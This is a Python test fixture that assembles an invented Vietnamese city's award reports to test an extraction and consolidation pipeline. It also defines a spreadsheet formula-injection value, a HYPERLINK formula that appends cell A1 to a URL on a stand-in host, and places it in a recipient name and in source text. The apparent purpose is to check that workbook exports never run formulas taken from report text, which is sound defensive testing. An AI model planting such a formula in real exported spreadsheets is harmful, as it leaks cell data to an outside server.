"""A small invented city with one of everything that outputs must show right."""

from dataclasses import dataclass
from random import Random
from typing import get_args

from rows import award, extraction, finding, person, report

from extractor.consolidation import City, consolidate
from extractor.record import Award, Extraction, Grade, Level, Qualifier, RecipientKind, Report, Status
from extractor.run import achievement_codes
from extractor.words.rulebook import AwardRule
from extractor.words.rulebook import awards as catalogue

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"xem")'  # what no workbook may run, out of a report's text


@dataclass(frozen=True)
class Unit:
    code: str
    name: str
    type: str


UNITS = (
    Unit("00011", "Phường Cầu Đá", "phường"),
    Unit("00022", "Xã Đồng Mây", "xã"),
    Unit("00033", "Xã Bến Lau", "xã"),
    Unit("00044", "Đặc khu Hòn Sóng", "đặc khu"),
)
PROVINCE = "Thành phố Sông Mây"


def city() -> City:
    """Four units: one with nearly everything, one that sent a newer report, one with an empty report, one missing."""
    return consolidate(
        [full(), *newer_and_older(), empty(), homeless(), unread()], UNITS, achievements=achievement_codes()
    )


def random_city(seed: int) -> City:
    """Every award of the catalogue, from every level, to every kind of recipient, in reports of all units but one."""
    chance = Random(seed)
    reports = (_random_report(chance, f"z{at}", unit) for at, unit in enumerate(UNITS[:3]))
    return consolidate(reports, UNITS, achievements=achievement_codes())


def _random_report(chance: Random, report_id: str, unit: Unit) -> Extraction:
    rules = chance.sample(list(catalogue().values()), k=60) * 4
    return extraction(
        sent(report_id, unit), *(_random_award(chance, f"{report_id}-{at}", rule, at) for at, rule in enumerate(rules))
    )


def _random_award(chance: Random, record_id: str, rule: AwardRule, at: int) -> Award:
    named = chance.random() < 0.4
    return award(
        record_id,
        award_code=rule.code,
        award_name=rule.name,
        scope="named" if named else "aggregate",
        recipient_name=f"Tập thể {at}" if named else "",
        recipient_kind=chance.choice(get_args(RecipientKind)),
        authority_level=chance.choice(get_args(Level)),
        grade=chance.choice(get_args(Grade)),
        status=chance.choices(get_args(Status), weights=(8, 1, 1, 1))[0],
        count=chance.choice((None, 0, 1, 7, 1200)),
        count_qualifier=chance.choice(get_args(Qualifier)),
        char_start=10 * at,
    )


def sent(report_id: str, unit: Unit, **columns: object) -> Report:
    place = {"unit_name": unit.name, "unit_type": unit.type, "province": PROVINCE, "sha256": "ab" * 32}
    period = {"period_start": 2021, "period_end": 2025, "pages": 3, "format": "docx"}
    return report(
        report_id, unit.code, **{**place, **period, "doc_date": "2025-09-05", "doc_number": "57/BC-UBND", **columns}
    )


def full() -> Extraction:
    rows = (
        award(
            "a01", count=12, recipient_kind="individual", authority_level="province", authority_name="Ủy ban nhân dân"
        ),
        award("a02", count=3, recipient_kind="collective", authority_level="province", char_start=100),
        award("a03", count=5, part_of="a01", recipient_kind="individual", authority_level="province", char_start=110),
        award("a04", count=12, restates="a01", recipient_kind="individual", authority_level="province", char_start=200),
        award("a05", count=9, status="proposed", recipient_kind="individual", authority_level="state", char_start=210),
        award("a06", count=40, count_qualifier="at_least", authority_level="commune", char_start=220, **GIAY_KHEN),
        award("a07", count=None, count_qualifier="unspecified", authority_level="", char_start=230, **GIAY_KHEN),
        award("a08", count=700, recipient_kind="household", char_start=240, **VAN_HOA),
        award(
            "a09", count=1, grade="3", recipient_kind="collective", authority_level="state", char_start=250, **LAO_DONG
        ),
        person(
            "a10",
            "Lê Thị Mây",
            char_start=260,
            authority_level="state",
            grade="2",
            count_qualifier="implied",
            **LAO_DONG,
        ),
        person(
            "a11",
            "Phạm Văn Đá",
            char_start=270,
            count=4,
            recipient_role="Giáo viên",
            recipient_unit="Trường Tiểu học Cầu Đá",
            authority_level="grassroots",
            years="2021;2022;2023;2024",
            **CO_SO,
        ),
        award("a12", count=25, char_start=280, award_code="SANG_KIEN", award_name="Sáng kiến được công nhận"),
        award(
            "a13",
            count=1,
            char_start=290,
            scope="named",
            recipient_kind="collective",
            recipient_name=FORMULA,
            source_text=f"{FORMULA}\x0bvà",
            decision_no="12/QĐ-UBND",
            decision_date="2024-05-06",
            authority_level="province",
        ),
        award("a14", count=2, rate="per_year", char_start=300, recipient_kind="individual", **CO_SO),
    )
    flags = (
        finding("TOTAL_MISMATCH", severity="error", message="Báo cáo ghi 16, cộng được 15.", stated="16", computed="15",
                record_ids="a01;a02", page=1, char_start=0, char_end=9, source_text=FORMULA),
        finding("TITLE_SLIP", severity="info", record_ids="a02", page=1, char_start=1, char_end=9),
    )  # fmt: skip
    return extraction(sent("r01", UNITS[0]), *rows, findings=flags)


def newer_and_older() -> tuple[Extraction, Extraction]:
    """Of one unit and period: the newer one counts."""
    newer = award("b01", count=7, recipient_kind="individual", authority_level="province")
    older = award("b02", count=6, recipient_kind="individual", authority_level="province")
    return (
        extraction(sent("r02", UNITS[1], doc_date="2025-10-01", doc_number="60/BC-UBND"), newer),
        extraction(sent("r03", UNITS[1]), older),
    )


def empty() -> Extraction:
    """A report that was read and holds no award."""
    return extraction(sent("r04", UNITS[2]))


def homeless() -> Extraction:
    """A report whose unit could not be told."""
    return extraction(
        report("r05", "", unit_name="", sha256="cd" * 32), award("c01", count=2, authority_level="province")
    )


def unread() -> Extraction:
    failed = {"status": "failed", "error_code": "encrypted", "message": "Tệp bị khóa."}
    return extraction(
        report("r06", "", source_file="khóa & kín.pdf", unit_name="", period_start=None, period_end=None, **failed)
    )


GIAY_KHEN = {"award_code": "GIAY_KHEN", "award_name": "Giấy khen"}
VAN_HOA = {"award_code": "GIA_DINH_VAN_HOA", "award_name": "Gia đình văn hóa"}
LAO_DONG = {"award_code": "HUAN_CHUONG_LAO_DONG", "award_name": "Huân chương Lao động"}
CO_SO = {"award_code": "CHIEN_SI_THI_DUA_CO_SO", "award_name": "Chiến sĩ thi đua cơ sở"}

CITY, RANDOM = city(), random_city(seed=5)
